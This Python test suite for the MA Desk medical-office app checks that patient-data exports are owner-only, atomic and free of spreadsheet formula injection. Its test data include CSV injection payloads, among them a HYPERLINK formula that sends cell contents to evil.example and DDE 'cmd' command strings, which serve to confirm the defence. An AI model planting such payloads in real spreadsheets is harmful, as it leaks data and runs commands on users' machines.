"""Every file MA Desk writes with patient data, attacked: owner-only even under umask 0, never
over an existing file without --force or a Replace answer (the default keeps it), nothing
half-written left behind, and no CSV cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import stat
import subprocess
import sys
import time
import unicodedata
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PySide6.QtCore import Qt, QTimer
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QMessageBox, QPushButton

from ma_desk import audit
from ma_desk.actor import Actor
from ma_desk.atomic_file import TEMP_PREFIX, write_bytes_atomic
from ma_desk.cli import main
from ma_desk.db.store import open_store
from ma_desk.reports.compliance_csv import compliance_csv
from ma_desk.reports.csv_safe import csv_text, safe_cell, safe_text
from ma_desk.reports.end_of_day_csv import HEADER, build_end_of_day_csv
from ma_desk.security.demo_accounts import DEMO_PASSWORD
from ma_desk.services import Services
from ma_desk.services.audit_log import AuditFilter
from ma_desk.services.checklists import ComplianceReport, GapRow, RunSummaryRow
from ma_desk.ui.common import replace_file
from ma_desk.ui.common.dialogs import dialogs
from tests.conftest import NOW, PASSPHRASE
from tests.report_helpers import busy_day

PRECIOUS = b"precious: an older export the user still needs\n"
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫−⁼₌⁺₊"
BLANKS = " \t\r\n\u00a0\u2007\u200b\u200d\u2060\ufeff\u3000\x0b\x0c"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(TEMP_PREFIX)]


def spreadsheet_would_run(cell: str) -> bool:
    """Would Excel, LibreOffice Calc or Google Sheets treat this cell as a formula?

    Written apart from ``csv_safe``: fold the whole cell (NFKC), drop whatever a
    spreadsheet may trim or not show in front, and look at what starts it. A cell
    that starts with an apostrophe is text; a plain number literal is a value.
    """
    if cell.startswith("'") or NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    shown = unicodedata.normalize("NFKC", cell).lstrip()
    while shown and (shown[0].isspace() or unicodedata.category(shown[0]) in ("Cc", "Cf")):
        shown = shown[1:]
    return shown[:1] in ("=", "+", "-", "@", "\u2212")


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    bad = [cell for row in rows for cell in row if spreadsheet_would_run(cell)]
    assert not bad, bad


hostile_text = st.one_of(
    st.text(),
    st.builds(lambda lead, trigger, tail: lead + trigger + tail,
              st.text(alphabet=BLANKS, max_size=3), st.sampled_from(TRIGGERS), st.text()),
    st.sampled_from(['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "=cmd|' /C calc'!A0",
                     "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1", " =1",
                     "\u200b=1", "＝1+1", "-5", "'=already quoted"]),
)  # fmt: skip


# ------------------------------------------------------------------ the CSV helper
@settings(max_examples=400)
@given(st.lists(st.lists(hostile_text, min_size=1, max_size=4), min_size=1, max_size=4))
def test_no_text_in_any_cell_reads_back_as_a_formula(rows):
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    back = read_csv(csv_text([f"c{i}" for i in range(width)], rows))
    assert len(back) == len(rows) + 1 and all(len(r) == width for r in back)
    assert_no_formula(back)
    for typed, cells in zip(rows, back[1:], strict=True):
        for text, cell in zip(typed, cells, strict=True):
            flat = text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ")
            assert cell in (flat, "'" + flat)  # nothing else is changed
            if cell != flat:
                assert spreadsheet_would_run(text) or NUMBER.fullmatch(text.strip()), text


@settings(max_examples=200)
@given(st.lists(st.one_of(st.integers(), st.decimals(allow_nan=False, allow_infinity=False,
                                                     places=2),
                          st.floats(allow_nan=False, allow_infinity=False)), min_size=1))  # fmt: skip
def test_computed_numbers_stay_numbers_a_spreadsheet_can_add(values):
    (back,) = read_csv(csv_text(["n"] * len(values), [values]))[1:]
    for value, cell in zip(values, back, strict=True):
        assert NUMBER.fullmatch(cell), cell
        assert type(value)(cell) == value


@pytest.mark.parametrize(
    "value, cell",
    [(Decimal("-5.00"), "-5.00"), (-5, "-5"), (-0.5, "-0.5"), ("-5", "'-5"), ("=1+1", "'=1+1"),
     ("  @x", "'  @x"), ("＝1", "'＝1"), ("\t1", "'\t1"), ("a\r\nb", "a b"), ("plain", "plain"),
     (float("-inf"), "'-inf"), (Decimal("NaN"), "NaN"), (True, "True"), (None, "")],
)  # fmt: skip
def test_what_is_data_and_what_is_text_is_decided_deliberately(value, cell):
    assert str(safe_cell(value)) == cell


def test_pandas_reads_no_formula_either():
    pandas = pytest.importorskip("pandas", reason="pandas is optional: not an MA Desk dependency")
    texts = ["=1+1", "\t=1", " =1", "＝1", "@x", "-2+3", "+1", "plain", "-5"]
    frame = pandas.read_csv(io.StringIO(csv_text(["a"], [[t] for t in texts])), dtype=str,
                            keep_default_na=False)  # fmt: skip
    assert not [c for c in frame["a"] if spreadsheet_would_run(c)]
    assert list(frame["a"]) == [safe_text(t) for t in texts]


# ------------------------------------------------------------------ each CSV MA Desk writes
@settings(max_examples=80, deadline=None)
@given(name=hostile_text, method=hostile_text, item=hostile_text)
def test_end_of_day_csv_never_carries_a_formula(name, method, item):
    data = busy_day(3)
    visits = (replace(data.visits[0], patient_name=name, copay_method=method,
                      open_items=(item,)), *data.visits[1:])  # fmt: skip
    rows = read_csv(build_end_of_day_csv(replace(data, visits=visits)))
    assert_no_formula(rows)
    assert rows[0] == HEADER and len(rows) == 4
    copay = rows[1][HEADER.index("copay_expected")]
    assert NUMBER.fullmatch(copay) and Decimal(copay) == Decimal("25.00")


@settings(max_examples=80, deadline=None)
@given(room=hostile_text, user=hostile_text, note=hostile_text, template=hostile_text)
def test_compliance_csv_never_carries_a_formula(room, user, note, template):
    start = dt.datetime(2026, 11, 20, 9, 0)
    run = RunSummaryRow(1, 1, room, "between", template, user, start,
                        start + dt.timedelta(minutes=4), "completed", 8, 7,
                        (f"{note}: out of stock",), 1, note)  # fmt: skip
    gap = GapRow(1, room, start.date(), "no_turnover", start, None)
    rows = read_csv(compliance_csv(ComplianceReport(start.date(), start.date(), None, (run,),
                                                    (gap,))))  # fmt: skip
    assert_no_formula(rows)
    assert rows[2][7] == "4.0" and rows[2][10:13] == ["8", "7", "0"]


@settings(max_examples=40, deadline=None,  # the store keeps every example's entry: all are checked
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(username=hostile_text, workstation=hostile_text)
def test_audit_export_never_carries_a_formula(tmp_path_factory, store, username, workstation):
    services = Services(store.db, actor=Actor.system())
    with store.db.write() as s:
        audit.record(s, Actor(None, username[:64], username[:64], "none", workstation[:64]),
                     "sign_in_failed", "session", outcome="failure",
                     details={"typed": username})  # fmt: skip
    out = tmp_path_factory.mktemp("audit") / "audit.csv"
    services.audit_log.export_csv(AuditFilter(), out)
    assert_no_formula(read_csv(out.read_text(encoding="utf-8")))


EVIL_USERNAMES = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "@SUM(1+1)",
                  "+cmd|' /C calc'!A0", "-2+3", "＝1+1", "\u200b=1+1"]  # fmt: skip


def test_a_user_name_typed_at_a_failed_sign_in_is_exported_as_text(cli, tmp_path, capsys):
    for evil in EVIL_USERNAMES:
        cli.setenv("MA_DESK_PASSWORD", "not the password")
        assert main(["audit", "verify", f"--user={evil}"]) == 1
    cli.setenv("MA_DESK_PASSWORD", DEMO_PASSWORD)
    out = tmp_path / "audit.csv"
    assert main(["audit", "export", "--out", str(out), "--user", "admin"]) == 0
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert_no_formula(rows)
    users = [r[3] for r in rows if r[5] == "sign_in_failed"]
    assert users[-len(EVIL_USERNAMES) :] == ["'" + e.strip().casefold() for e in EVIL_USERNAMES]
    assert mode(out) == 0o600


# ------------------------------------------------------------------ CLI files
@pytest.fixture
def open_umask():
    """A umask that lets everyone read new files: MA Desk must not depend on the user's."""
    previous = os.umask(0)
    try:
        yield
    finally:
        os.umask(previous)


@pytest.fixture
def cli(demo_dir, monkeypatch, open_umask):
    monkeypatch.setenv("MA_DESK_PASSPHRASE", PASSPHRASE)
    monkeypatch.setenv("MA_DESK_DATA_DIR", str(demo_dir))
    monkeypatch.setenv("MA_DESK_PASSWORD", DEMO_PASSWORD)
    monkeypatch.delenv("MA_DESK_USER", raising=False)
    return monkeypatch


def checked_out_visit(data_dir: Path) -> int:
    opened = open_store(data_dir, passphrase=PASSPHRASE)
    try:
        rows = Services(opened.db, actor=Actor.system()).schedule.day(NOW.date())
        return next(r.visit_id for r in rows if r.status == "checked_out")
    finally:
        opened.db.close()


CLI_EXPORTS = {
    "visit summary PDF": ["report", "visit-summary", "--visit", "VISIT", "--user", "ma"],
    "end-of-day CSV": ["report", "end-of-day", "--date", NOW.date().isoformat(),
                       "--format", "csv", "--user", "ma"],
    "end-of-day PDF": ["report", "end-of-day", "--date", NOW.date().isoformat(), "--user", "ma"],
    "labels PDF": ["report", "labels", "--visit", "VISIT", "--user", "ma"],
    "handout PDF": ["report", "handout", "--visit", "VISIT", "--handout", "wound-care",
                    "--language", "en", "--user", "ma"],
    "audit CSV": ["audit", "export", "--user", "admin"],
}  # fmt: skip


@pytest.mark.parametrize("argv", CLI_EXPORTS.values(), ids=CLI_EXPORTS.keys())
def test_cli_exports_are_owner_only_and_replace_nothing_without_force(
    cli, demo_dir, tmp_path, capsys, argv
):
    visit = str(checked_out_visit(demo_dir))
    argv = [visit if a == "VISIT" else a for a in argv]
    out = tmp_path / "export.out"
    assert main([*argv, "--out", str(out)]) == 0, capsys.readouterr().err
    first = out.read_bytes()
    assert first and mode(out) == 0o600
    out.write_bytes(PRECIOUS)
    out.chmod(0o644)
    capsys.readouterr()
    assert main([*argv, "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "already exists" in err and "--force" in err and err.count("\n") == 1
    assert out.read_bytes() == PRECIOUS
    assert main([*argv, "--out", str(out), "--force"]) == 0
    assert out.read_bytes() != PRECIOUS and mode(out) == 0o600
    link = tmp_path / "link.out"
    link.symlink_to(tmp_path / "elsewhere.out")
    assert main([*argv, "--out", str(link)]) == 1  # a dangling symlink is a name taken too
    assert not (tmp_path / "elsewhere.out").exists()
    assert leftovers(tmp_path) == []


# ------------------------------------------------------------------ atomic files
def test_a_file_that_appears_meanwhile_is_never_replaced(tmp_path):
    target = tmp_path / "x.csv"
    target.write_bytes(PRECIOUS)
    with pytest.raises(FileExistsError):
        write_bytes_atomic(target, b"new", replace=False)
    assert target.read_bytes() == PRECIOUS and leftovers(tmp_path) == []


def test_a_failed_write_leaves_no_temp_file(tmp_path, open_umask):
    (tmp_path / "a folder.pdf").mkdir()
    with pytest.raises(IsADirectoryError):
        write_bytes_atomic(tmp_path / "a folder.pdf", b"%PDF", replace=True)
    assert leftovers(tmp_path) == []


def test_temp_files_of_killed_writers_go_and_those_of_live_writers_stay(tmp_path):
    ended = subprocess.Popen([sys.executable, "-c", "pass"])
    ended.wait()
    live = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()"],
                            stdin=subprocess.PIPE)  # fmt: skip
    try:
        dead_temp = tmp_path / f"{TEMP_PREFIX}{ended.pid}-abc123.part"
        live_temp = tmp_path / f"{TEMP_PREFIX}{live.pid}-def456.part"
        for temp in (dead_temp, live_temp):
            temp.write_bytes(b"half of a PDF with a patient's name")
        write_bytes_atomic(tmp_path / "next.pdf", b"%PDF")
        assert not dead_temp.exists() and live_temp.exists()
    finally:
        live.communicate(b"")


# ------------------------------------------------------------------ GUI saves
class ReplaceAnswerer:
    """Answers the next Replace question by keyboard (polling until ``stop``)."""

    def __init__(self, *keys: Qt.Key, timeout: float = 20.0) -> None:
        self.keys, self.asked = keys, []
        self.deadline = time.monotonic() + timeout
        QTimer.singleShot(0, self._attempt)

    def stop(self) -> None:
        self.deadline = 0.0

    def _attempt(self) -> None:
        box = QApplication.activeModalWidget()
        if self.asked or time.monotonic() > self.deadline:
            return
        if isinstance(box, QMessageBox) and box.objectName() == "confirm_replace":
            self.asked.append(box.text())
            for key in self.keys:
                QTest.keyClick(box.focusWidget() or box, key)
        else:
            QTimer.singleShot(5, self._attempt)


KEEP = (Qt.Key.Key_Return,)
REPLACE = (Qt.Key.Key_Tab, Qt.Key.Key_Space)  # from the default "Keep" to "Replace"


@pytest.mark.parametrize("keys", [KEEP, (Qt.Key.Key_Escape,), REPLACE], ids=["enter", "escape",
                                                                          "replace"])  # fmt: skip
def test_the_replace_question_keeps_the_file_unless_replace_is_chosen(qtbot, tmp_path, keys):
    target = tmp_path / "report.pdf"
    answerer = ReplaceAnswerer(*keys)
    chosen = replace_file.confirm_replace(None, target)
    answerer.stop()
    assert answerer.asked and "report.pdf already exists" in answerer.asked[0]
    assert chosen is (keys == REPLACE)


@pytest.fixture
def warnings_shown(monkeypatch):
    warned: list[str] = []
    monkeypatch.setattr(dialogs, "info", lambda *_a: None)
    monkeypatch.setattr(dialogs, "warn", lambda _p, _t, text: warned.append(text))
    return warned


def export_answering(export, path: Path, *keys: Qt.Key) -> list[str]:
    """Run one GUI export to ``path``, answering a Replace question with ``keys``."""
    answerer = ReplaceAnswerer(*keys)
    try:
        export(path)
    finally:
        answerer.stop()
    return answerer.asked


def preview_save(qtbot, services, monkeypatch):
    from ma_desk.ui.printing.preview import PdfPreviewDialog

    pdf = services.reports.visit_summary(checked_out_visit_in(services))
    dialog = PdfPreviewDialog(pdf, title="After-visit summary", suggested_name="s.pdf")
    qtbot.addWidget(dialog)

    def export(path: Path) -> None:
        dialog.ask_save_path = lambda: str(path)
        qtbot.keyClick(dialog.save_button, Qt.Key.Key_Space)

    return export


def end_of_day_csv_save(qtbot, services, monkeypatch):
    from ma_desk.ui.printing.dialogs import EndOfDayDialog

    dialog = EndOfDayDialog(services)
    qtbot.addWidget(dialog)

    def export(path: Path) -> None:
        dialog.ask_csv_path = lambda: str(path)
        qtbot.keyClick(dialog.csv_button, Qt.Key.Key_Space)

    return export


def compliance_export(qtbot, services, monkeypatch):
    from ma_desk.ui.roomprep import compliance

    page = compliance.CompliancePage(services)
    qtbot.addWidget(page)
    page.activated()
    qtbot.waitUntil(lambda: page.report is not None and page.export_button.isEnabled())

    def export(path: Path) -> None:
        monkeypatch.setattr(compliance, "ask_save_path", lambda *_a: path)
        qtbot.keyClick(page.export_button, Qt.Key.Key_Space)

    return export


def audit_export(qtbot, services, monkeypatch):
    from ma_desk.ui.security import audit_view

    services.accounts.sign_in("admin", DEMO_PASSWORD)
    dialog = audit_view.AuditDialog(services)
    qtbot.addWidget(dialog)
    button = dialog.findChild(QPushButton, "audit_export")

    def export(path: Path) -> None:
        monkeypatch.setattr(audit_view, "ask_save_path", lambda *_a: path)
        qtbot.keyClick(button, Qt.Key.Key_Space)
        assert dialog.message.text() == "" or "exported" in dialog.count.text()

    return export


def calendar_export(qtbot, services, monkeypatch):
    from ma_desk.ui.schedule.prompts import prompts
    from ma_desk.ui.schedule.tab import ScheduleTab
    from ma_desk.ui.selection import Selection

    tab = ScheduleTab(services, Selection())
    qtbot.addWidget(tab)
    tab.resize(1500, 900)
    tab.show()
    monkeypatch.setattr(dialogs, "confirm", lambda *_a: True)  # with names: the PHI case

    def export(path: Path) -> None:
        monkeypatch.setattr(prompts, "save_path", lambda *_a: str(path))
        tab.activateWindow()  # offscreen, a closed message box leaves no window active
        qtbot.waitUntil(tab.isActiveWindow)
        tab.grid.select_cell(0, 0)
        tab.grid.setFocus()
        qtbot.keyClick(tab.grid, Qt.Key.Key_E, Qt.KeyboardModifier.ControlModifier)

    return export


def checked_out_visit_in(services: Services) -> int:
    rows = services.schedule.day(NOW.date())
    return next(r.visit_id for r in rows if r.status == "checked_out")


GUI_EXPORTS = {"preview PDF save": (preview_save, ".pdf"),
               "end-of-day CSV save": (end_of_day_csv_save, ".csv"),
               "compliance CSV export": (compliance_export, ".csv"),
               "audit trail CSV export": (audit_export, ".csv"),
               "iCalendar export": (calendar_export, ".ics")}  # fmt: skip


@pytest.mark.parametrize("make, suffix", GUI_EXPORTS.values(), ids=GUI_EXPORTS.keys())
def test_gui_exports_are_owner_only_and_ask_before_replacing(
    qtbot, demo_services, monkeypatch, tmp_path, open_umask, warnings_shown, make, suffix
):
    export = make(qtbot, demo_services, monkeypatch)
    new = tmp_path / f"new{suffix}"
    assert export_answering(export, new, *KEEP) == []  # a new file: no question
    assert new.read_bytes() and mode(new) == 0o600

    kept = tmp_path / f"kept{suffix}"
    kept.write_bytes(PRECIOUS)
    asked = export_answering(export, kept, *KEEP)  # Enter takes the default answer
    assert asked and kept.name in asked[0] and kept.read_bytes() == PRECIOUS

    replaced = tmp_path / f"replaced{suffix}"
    replaced.write_bytes(PRECIOUS)
    replaced.chmod(0o644)
    asked = export_answering(export, replaced, *REPLACE)
    assert asked and replaced.read_bytes() not in (b"", PRECIOUS) and mode(replaced) == 0o600
    assert leftovers(tmp_path) == [] and warnings_shown == []


@pytest.mark.parametrize("existing", [False, True], ids=["new file", "existing 0644 file"])
def test_print_to_file_is_owner_only(qtbot, demo_services, tmp_path, open_umask, existing):
    from PySide6.QtPrintSupport import QPrinter

    from ma_desk.ui.printing.preview import PdfPreviewDialog

    pdf = demo_services.reports.visit_summary(checked_out_visit_in(demo_services))
    dialog = PdfPreviewDialog(pdf, title="After-visit summary", suggested_name="s.pdf")
    qtbot.addWidget(dialog)
    target = tmp_path / "printed.pdf"
    if existing:
        target.write_bytes(PRECIOUS)
        target.chmod(0o644)

    def print_to_file() -> QPrinter:  # what the print dialog returns for "Print to file"
        printer = QPrinter(QPrinter.PrinterMode.ScreenResolution)
        printer.setOutputFormat(QPrinter.OutputFormat.PdfFormat)
        printer.setOutputFileName(str(target))
        return printer

    dialog.ask_printer = print_to_file
    qtbot.keyClick(dialog.print_button, Qt.Key.Key_Space)
    qtbot.waitUntil(
        lambda: dialog.outputs == ["print"], timeout=30_000
    )  # printed off the UI thread
    assert target.read_bytes() == pdf and mode(target) == 0o600  # the document, not PRECIOUS
